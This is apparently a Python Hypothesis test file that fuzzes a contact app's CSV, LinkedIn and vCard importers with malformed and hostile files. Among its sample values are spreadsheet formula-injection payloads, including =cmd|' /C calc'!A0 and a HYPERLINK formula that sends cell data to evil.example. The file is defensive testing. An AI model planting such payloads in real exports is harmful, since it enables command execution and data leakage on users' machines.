"""Hostile and malformed files never crash an importer: each file either reads as records
and row errors that respect every rule, or stops with a FileError that says why."""

import tempfile
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mingel.core.contact_fields import LIMITS, TAG_LIMIT
from mingel.core.importers import csvfile, linkedin, vcard
from mingel.core.importers.model import FileError, Record, RowError

FILE_CODES = {
    "unreadable",
    "no_header",
    "bad_quoting",
    "huge_field",
    "bad_encoding",
    "not_vcard",
    "no_end",
}
ROW_CODES = {
    "formula",
    "no_name",
    "too_long",
    "bad_email",
    "bad_linkedin",
    "bad_date",
    "bad_vcard",
    "bad_iso_date",
    "date_out_of_range",
    "bad_interval",
    "card_too_large",
    "tag_too_long",
}
ENCODINGS = ["utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16", "utf-16-le"]
FEW = settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])

hostile_cell = st.one_of(
    st.text(max_size=30),
    st.sampled_from(
        [
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+IMPORTXML(A1)",
            "-2+3",
            '"',
            'a"b',
            '"unclosed',
            "a,b;c\td",
            "line\nbreak",
            "cr\rlf\r\n",
            "\x00nul\x00",
            "\ufeffbom",
            "Åsa Öberg",
            "😀 emoji",
            "anna@example.com",
            "https://www.linkedin.com/in/anna",
            "15 Jan 2024",
            "31 Feb 2024",
            # Digits str.isdigit() and \\d take but int() refuses or misreads.
            "²",
            "①",
            "١٢",
            "３０",
            "",
        ]
    ),
    st.integers(150, 140_000).map(lambda n: "x" * n),
)


def encode(text: str, encoding: str) -> bytes:
    return text.encode(encoding, errors="replace")


def check_items(items) -> None:
    for item in items:
        if isinstance(item, RowError):
            assert item.line >= 1 and item.code in ROW_CODES
            continue
        assert isinstance(item, Record) and item.line >= 1 and item.name
        for field, value in item.fields().items():
            assert len(value) <= LIMITS[field]
            assert "\x00" not in value
            if field != "notes":
                assert "\n" not in value and "\r" not in value
        assert all(0 < len(t) <= TAG_LIMIT for t in item.tags)


def read_all(parse, data: bytes, *args):
    """Parses `data` through a file; the items or the FileError."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "upload"
        path.write_bytes(data)
        try:
            if parse is csvfile.parse:
                layout = csvfile.layout(path)
                mapping = csvfile.guess_mapping(layout.headers) or {"name": 0}
                if csvfile.mapping_problem(mapping):
                    mapping["name"] = 0
                items = list(csvfile.parse(path, layout, mapping))
            else:
                items = list(parse(path, *args))
        except FileError as exc:
            assert exc.code in FILE_CODES, exc
            return exc
    check_items(items)
    return items


def quote(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"' if any(c in cell for c in ',"\r\n') else cell


@FEW
@given(st.binary(max_size=2000))
def test_random_bytes_never_crash_any_importer(data):
    for parse in (linkedin.parse, vcard.parse, csvfile.parse):
        read_all(parse, data)


@FEW
@given(
    rows=st.lists(st.lists(hostile_cell, min_size=0, max_size=9), max_size=12),
    encoding=st.sampled_from(ENCODINGS),
    notes=st.integers(0, 4),
    raw=st.booleans(),
)
def test_hostile_linkedin_files(rows, encoding, notes, raw):
    header = "First Name,Last Name,URL,Email Address,Company,Position,Connected On"
    lines = [*["Notes:", '"Some, notes"', ""][:notes], header]
    # raw: cells written as they are, so quotes and line breaks break the quoting.
    lines += [",".join(c if raw else quote(c) for c in row) for row in rows]
    result = read_all(linkedin.parse, encode("\r\n".join(lines) + "\r\n", encoding))
    if not raw and not isinstance(result, FileError):
        assert len(result) <= len(rows)


@FEW
@given(
    rows=st.lists(st.lists(hostile_cell, min_size=1, max_size=6), max_size=10),
    headers=st.lists(
        st.sampled_from(
            [
                "Namn",
                "Förnamn",
                "E-post",
                "Företag",
                "Titel",
                "Taggar",
                "Notes",
                "?",
                "Träffades",
                "Håll kontakt var (dagar)",
                "Evenemang",
            ]
        ),
        min_size=1,
        max_size=6,
    ),
    delimiter=st.sampled_from([",", ";", "\t"]),
    encoding=st.sampled_from(ENCODINGS),
)
def test_hostile_csv_files(rows, headers, delimiter, encoding):
    lines = [delimiter.join(headers)] + [delimiter.join(quote(c) for c in row) for row in rows]
    read_all(csvfile.parse, encode("\n".join(lines), encoding))


vcard_line = st.one_of(
    st.sampled_from(
        [
            "VERSION:2.1",
            "VERSION:3.0",
            "VERSION:4.0",
            "FN:Anna Berg",
            "N:Berg;Anna;;;",
            "N:;;;;",
            "FN;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:=C3=85sa=",
            "NOTE;ENCODING=QUOTED-PRINTABLE;CHARSET=bogus-charset:Tr=E4ff",
            "NOTE;ENCODING=QUOTED-PRINTABLE:=ZZ=",
            "PHOTO;ENCODING=b;TYPE=JPEG:!!notbase64!!",
            "EMAIL:anna@example.com",
            "EMAIL:=HYPERLINK(1)",
            "ORG:=cmd|' /C calc'!A0;x",
            "TITLE:@SUM(1)",
            "item1.URL:https\\://www.linkedin.com/in/anna",
            "item1.X-ABLabel:LinkedIn",
            "CATEGORIES:a,b,,=c(),myContacts",
            "TEL;VALUE=uri:tel:+46-70",
            "X-MINGEL-KEEP-IN-TOUCH-DAYS:²",
            "X-MINGEL-KEEP-IN-TOUCH-DAYS:①",
            "X-MINGEL-MET-ON:２０２６-03-14",
            "X-MINGEL-EVENT:Meetup",
            "X-MINGEL-EVENT-DATE:0001-01-01",
            " folded continuation",
            "NO-COLON-HERE",
            ";;;:::",
            "BEGIN:VCARD",
            "END:VCARD",
            "",
        ]
    ),
    st.text(max_size=40).map(lambda t: "NOTE:" + t),
    st.integers(150, 20_000).map(lambda n: "FN:" + "y" * n),
)


@FEW
@given(
    cards=st.lists(st.lists(vcard_line, max_size=8), min_size=0, max_size=6),
    cut=st.integers(0, 400),
    encoding=st.sampled_from(ENCODINGS),
    newline=st.sampled_from(["\n", "\r\n"]),
)
def test_hostile_and_truncated_vcards(cards, cut, encoding, newline):
    text = "".join(newline.join(["BEGIN:VCARD", *lines, "END:VCARD"]) + newline for lines in cards)
    truncated = text[: len(text) - cut] if cut < len(text) else text
    read_all(vcard.parse, encode(truncated, encoding))


def test_a_truncated_card_is_always_a_file_error(tmp_path):
    card = "BEGIN:VCARD\nVERSION:3.0\nFN:Anna Berg\nEMAIL:a@example.com\nEND:VCARD\n"
    # Cutting only the last newline leaves the card whole.
    for cut in range(2, len("END:VCARD\n") + 30):
        result = read_all(vcard.parse, (card * 2)[:-cut].encode())
        assert isinstance(result, FileError) and result.code == "no_end", cut
